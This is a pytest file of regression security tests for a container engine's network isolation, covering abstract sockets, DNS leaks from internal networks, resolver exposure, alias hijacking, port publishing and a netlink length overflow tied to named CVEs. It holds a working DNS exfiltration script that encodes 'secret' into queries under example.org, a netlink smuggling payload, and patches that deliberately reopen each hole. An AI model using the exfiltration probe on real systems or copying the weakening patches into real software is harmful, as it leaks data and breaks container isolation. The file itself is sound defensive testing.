"""Classes of bugs by which a container reaches what it must not through networks and sockets."""

from __future__ import annotations

import os
import socket
import struct
from pathlib import Path

import pytest

from ipycontainer.linux import netlink
from ipycontainer.store import places
from tests.system.engine import weakened
from tests.system.security.rules import either

pytestmark = [pytest.mark.usefixtures("busybox_image"), pytest.mark.sampled]

# ── sockets of the engine ────────────────────────────────────────────────────────────────────

LISTS_SOCKETS = """
import json, sys, ipycontainer
engine = ipycontainer.connect(sys.argv[1])
result = engine.run("busybox", ["cat", "/proc/net/unix"], network="host", remove=True)
print(json.dumps([line.split()[-1] for line in result.stdout.decode().splitlines() if "@" in line]))
"""

ABSTRACT = {
    "supervise/protocol.py": """
_beside, _kept = listen, []

def listen(path):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET | socket.SOCK_CLOEXEC)
    sock.bind("\\0" + path)
    sock.listen(128)
    _kept.append(sock)
    return _beside(path)
"""
}


@either
def test_abstract_sockets(home: Path, tmp_path: Path, holds: bool) -> None:
    """CVE-2020-15257: on the host's network no socket of the engine's can be seen or asked."""
    seen = weakened.run(LISTS_SOCKETS, tmp_path, {} if holds else ABSTRACT, str(home))
    runtime = f"ipyc-{places.hash8(Path(os.path.realpath(home)))}"
    assert any(runtime in name for name in seen) == (not holds)


# ── names ────────────────────────────────────────────────────────────────────────────────────

# Asks 127.0.0.11 for names that would carry data out, in every way that there is.
ASKER = """
import socket, struct, sys
def question(kind):
    labels = b"".join(bytes([len(x)]) + x for x in (b"c2VjcmV0", b"example", b"org"))
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1)
for kind in (1, 28, 12, 16, 255):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(float(sys.argv[1]))
        client.connect(("127.0.0.11", 53))
        client.send(question(kind))
        try:
            client.recv(512)
        except TimeoutError:
            pass
with socket.create_connection(("127.0.0.11", 53)) as client:
    client.settimeout(float(sys.argv[1]))
    client.sendall(struct.pack(">H", len(question(1))) + question(1))
    try:
        client.recv(512)
    except TimeoutError:
        pass
"""

# Starts a container on an internal network, or takes it off all others, and lets it ask.
EXFILTRATES = """
import json, sys, ipycontainer
home, way, asker, patience = sys.argv[1:]
engine = ipycontainer.connect(home)
engine.networks.create("closed", internal=True)
engine.networks.create("open")
first = "closed" if way == "from the start" else "open"
container = engine.containers.run(
    "host", ["sleep", "1000"], detach=True, network=first, dns=["127.0.0.1"]
)
if way != "from the start":
    engine.networks.get("closed").connect(container)
    engine.networks.get("open").disconnect(container)
result = container.exec_run(["python", "-c", asker, patience])
container.remove(force=True)
print(json.dumps([result.exit_code, result.output.decode()]))
"""


@pytest.mark.parametrize("way", ["from the start", "later"])
@either
def test_names_of_an_internal_network(home: Path, tmp_path: Path, way: str, holds: bool) -> None:
    """CVE-2024-29018: a server outside gets no question, also once other networks are left."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as upstream:
        upstream.bind(("127.0.0.1", 0))
        port = f"DNS_PORT = {upstream.getsockname()[1]}"
        open_ = "Names._leads_out = lambda self: True"
        names = port if holds else f"{port}\n{open_}"
        additions = {"supervise/dns_names.py": names}
        if not holds and way == "from the start":
            additions["supervise/container_networks.py"] = (
                "_attend = Connection.attend\n"
                "def attend(self, loop, resolver):\n"
                "    self.resolve(loop, resolver, self._asked['servers'])\n"
                "Connection.attend = attend"
            )
        patience = "3" if holds else "0.2"
        said = weakened.run(EXFILTRATES, tmp_path, additions, str(home), way, ASKER, patience)
        assert said == [0, ""]
        upstream.setblocking(False)
        try:
            got = upstream.recv(4096)
        except BlockingIOError:
            got = b""
    assert (b"c2VjcmV0" in got) == (not holds)


WHO_LISTENS = """
import json, sys, ipycontainer
engine = ipycontainer.connect(sys.argv[1])
engine.networks.create("office")
command = ["sh", "-c", "netstat -lntu | tail -n +3"]
result = engine.run("busybox", command, network="office", remove=True)
print(json.dumps([line.split()[3] for line in result.stdout.decode().splitlines()]))
"""


@either
def test_a_resolver_for_everybody(home: Path, tmp_path: Path, holds: bool) -> None:
    """The resolver listens inside the container, at 127.0.0.11 alone: no neighbour can ask it."""
    every = {"runtime/network_steps.py": 'RESOLVER_ADDRESS = "0.0.0.0"'}
    seen = weakened.run(WHO_LISTENS, tmp_path, {} if holds else every, str(home))
    assert len(seen) == 2
    assert {name.rpartition(":")[0] for name in seen} == {"127.0.0.11" if holds else "0.0.0.0"}


TAKES_A_NAME = """
import json, sys, ipycontainer
engine = ipycontainer.connect(sys.argv[1])
for name in ("office", "attic"):
    engine.networks.create(name)

def start(network, name):
    return engine.containers.run(
        "busybox", ["sleep", "1000"], detach=True, network=network, name=name, dns=["127.0.0.1"]
    )

bank, thief, asker = start("office", "bank"), start("attic", "thief"), start("office", "asker")
engine.networks.get("attic").disconnect(thief)
engine.networks.get("attic").connect(thief, aliases=["bank", "secret"])
ask = ["timeout", "3", "nslookup", "-type=a"]
said = [asker.exec_run([*ask, name]).output.decode() for name in ("bank", "secret")]
address = thief.attrs["NetworkSettings"]["Networks"]["attic"]["IPAddress"]
for each in (bank, thief, asker):
    each.remove(force=True)
print(json.dumps([address in text for text in said]))
"""

ALL_NETWORKS = {
    "store/dns_names.py": """
def _networks(tx, container_id):
    return [(row["id"], row["name"], {}) for row in tx.all("SELECT id, name FROM networks")]
"""
}


@either
def test_a_name_that_a_stranger_takes(home: Path, tmp_path: Path, holds: bool) -> None:
    """An alias is known on its own network: nobody elsewhere is led to who took it."""
    found = weakened.run(TAKES_A_NAME, tmp_path, {} if holds else ALL_NETWORKS, str(home))
    assert found[1] == (not holds)
    assert not (holds and found[0])


# ── ports ────────────────────────────────────────────────────────────────────────────────────

PUBLISHES = """
import json, sys, ipycontainer
engine = ipycontainer.connect(sys.argv[1])
container = engine.containers.run("busybox", ["sleep", "1000"], detach=True, ports={"80/tcp": None})
container.reload()
ports = container.attrs["NetworkSettings"]["Ports"]["80/tcp"]
print(json.dumps([each["HostIp"] for each in ports]))
container.remove(force=True)
"""


@either
def test_a_published_port(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, holds: bool
) -> None:
    """Where the user says that ports are this machine's own business, no other can reach them."""
    monkeypatch.setenv("IPYCONTAINER_PUBLISH_ADDRESS", "127.0.0.1")
    every = {"network/published.py": "def default_addresses(configured): return _EVERYWHERE"}
    bound = weakened.run(PUBLISHES, tmp_path, {} if holds else every, str(home))
    assert set(bound) == ({"127.0.0.1"} if holds else {"0.0.0.0", "::"})


# ── netlink ──────────────────────────────────────────────────────────────────────────────────


@either
def test_a_netlink_message_that_wraps_around(holds: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """CVE-2021-43784: what does not fit into an attribute's 16 bits of length is refused."""
    if not holds:

        def wraps(kind: int, value: bytes) -> bytes:
            length = (4 + len(value)) & 0xFFFF
            return struct.pack("=HH", length, kind) + value + bytes(-len(value) % 4)

        monkeypatch.setattr(netlink, "attribute", wraps)
    hidden = bytes(65536 - 4) + netlink.text(4, "smuggled")
    if holds:
        with pytest.raises(OSError, match="Message too long"):
            netlink.attribute(1, hidden)
    else:
        assert netlink.attributes(netlink.attribute(1, hidden))[1] != hidden
